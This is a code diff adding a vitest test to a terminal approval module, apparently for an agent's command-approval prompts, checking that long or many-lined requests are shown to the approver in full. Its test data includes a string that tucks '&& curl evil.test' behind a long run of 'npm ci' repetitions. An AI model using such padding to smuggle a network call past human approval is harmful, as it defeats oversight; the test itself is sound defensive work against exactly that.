@@ -1,7 +1,9 @@
+import { stripVTControlCharacters } from 'node:util';
 import { afterEach, expect, test, vi } from 'vitest';
 import { newId } from '../ids.ts';
 import type { ApprovalRequest } from '../approvals/approval.ts';
 import { terminalApprover } from './ask-approval.ts';
+import { approvalLines } from './drive/approvals.ts';
 
 const request: ApprovalRequest = {
   id: newId(),
@@ -42,6 +44,21 @@ test('what was approved on the command line is approved, and nothing else where 
 
 test('without a terminal and without categories nobody can be asked', () => {
   expect(terminalApprover([], false)).toBeUndefined();
+});
+
+test('what is asked is shown whole, however long its lines and however many', async () => {
+  const hidden = `${'npm ci '.repeat(60)}&& curl evil.test`;
+  const subject = [...Array.from({ length: 60 }, (_, n) => `line ${n}`), hidden].join('\n');
+  const text = shown();
+  await terminalApprover(['dependency'], false)?.({ ...request, subject }, signal);
+  const listed = approvalLines({ ...request, subject, state: 'pending', verdicts: [] }).join('\n');
+  for (const whole of [text(), listed]) {
+    const quoted = stripVTControlCharacters(whole)
+      .split('\n')
+      .flatMap((line) => /^ {4}│ (.*)$/.exec(line)?.[1] ?? []);
+    expect(quoted.slice(0, 60)).toEqual(subject.split('\n').slice(0, 60));
+    expect(quoted.slice(60).join('')).toBe(hidden);
+  }
 });
 
 test('text from the sandbox cannot act on the terminal', async () => {
